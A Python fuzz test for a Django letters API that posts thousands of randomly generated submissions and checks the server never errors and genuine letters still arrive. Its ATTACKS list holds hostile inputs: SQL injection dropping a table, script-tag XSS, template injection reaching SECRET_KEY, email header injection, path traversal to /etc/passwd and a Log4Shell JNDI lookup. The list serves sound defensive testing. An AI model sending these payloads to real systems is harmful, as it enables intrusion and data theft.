"""Thousands of submissions that mean no good, and genuine letters in among them."""

import json
import os
import uuid
from typing import Any

import pytest
from django.test import Client
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from upendo.catalogue.tests.factories import JarFactory
from upendo.inbox.api.throttles import CodeThrottle, NetworkThrottle
from upendo.inbox.models import Letter, Message
from upendo.inbox.tests.factories import letter_data

# HOSTILE_SUBMISSIONS=10000 takes some minutes.
SUBMISSIONS = int(os.environ.get("HOSTILE_SUBMISSIONS", "200"))
ATTACKS = [
    "'; DROP TABLE inbox_letter; --",
    "<script>alert(1)</script>",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "Ann\r\nBcc: all@example.org\r\n\r\nHello",
    "../../../../etc/passwd",
    "\x00\x1b[2J\u202e\ufeff\ud800",
    "=HYPERLINK(A1)",
    "${jndi:ldap://x.example/a}",
    "A" * 3000,
]
TEXT = st.one_of(st.text(max_size=60), st.sampled_from(ATTACKS))
ANYTHING = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), TEXT),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(TEXT, inner, max_size=3)),
    max_leaves=6,
)
FIELDS = st.sampled_from(sorted(letter_data()))
# A good letter of which some fields were replaced, anything that is JSON, or just bytes.
BODIES = st.one_of(
    st.dictionaries(FIELDS, st.one_of(TEXT, ANYTHING), min_size=1, max_size=4).map(
        lambda changes: json.dumps(letter_data(**changes)).encode()
    ),
    ANYTHING.map(lambda value: json.dumps(value).encode()),
    st.binary(max_size=200),
)
TYPES = st.sampled_from(["application/json"] * 8 + ["text/plain", "multipart/form-data", "?"])


@pytest.fixture(autouse=True)
def unthrottled(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let everything through to what stands behind the throttles."""
    for throttle in (NetworkThrottle, CodeThrottle):
        monkeypatch.setattr(throttle, "allow_request", lambda *_: True)


def send(body: bytes, content_type: str = "application/json") -> Any:
    return Client().post("/api/v1/letters/", body, content_type)


@pytest.mark.django_db
def test_nothing_that_is_sent_causes_an_accident_and_genuine_letters_arrive() -> None:
    JarFactory.create(code="PUREJOY")
    accepted: set[str] = set()
    sent = 0

    @settings(
        max_examples=SUBMISSIONS // 10,
        deadline=None,
        phases=[Phase.generate],
        database=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(st.lists(st.tuples(BODIES, TYPES), min_size=10, max_size=10))
    def attack(bodies: list[tuple[bytes, str]]) -> None:
        nonlocal sent
        for body, content_type in bodies:
            answer = send(body, content_type)
            sent += 1
            assert answer.status_code in {201, 400, 415}, (answer.status_code, body)
            if answer.status_code == 201:
                accepted.add(answer.json()["path"])

    attack()
    genuine = [letter_data(key=str(uuid.uuid4()), message=f"Asante, number {n}") for n in range(20)]
    for letter in genuine:
        answer = send(json.dumps(letter).encode())
        accepted.add(answer.json()["path"])
    assert sent >= SUBMISSIONS
    assert {f"/letters/{token}" for token in Letter.objects.values_list("token", flat=True)} == (
        accepted
    )
    arrived = Letter.objects.filter(status=Letter.Status.NEW, messages__text__contains="number")
    assert arrived.count() == 20
    assert Message.objects.count() == len(accepted)
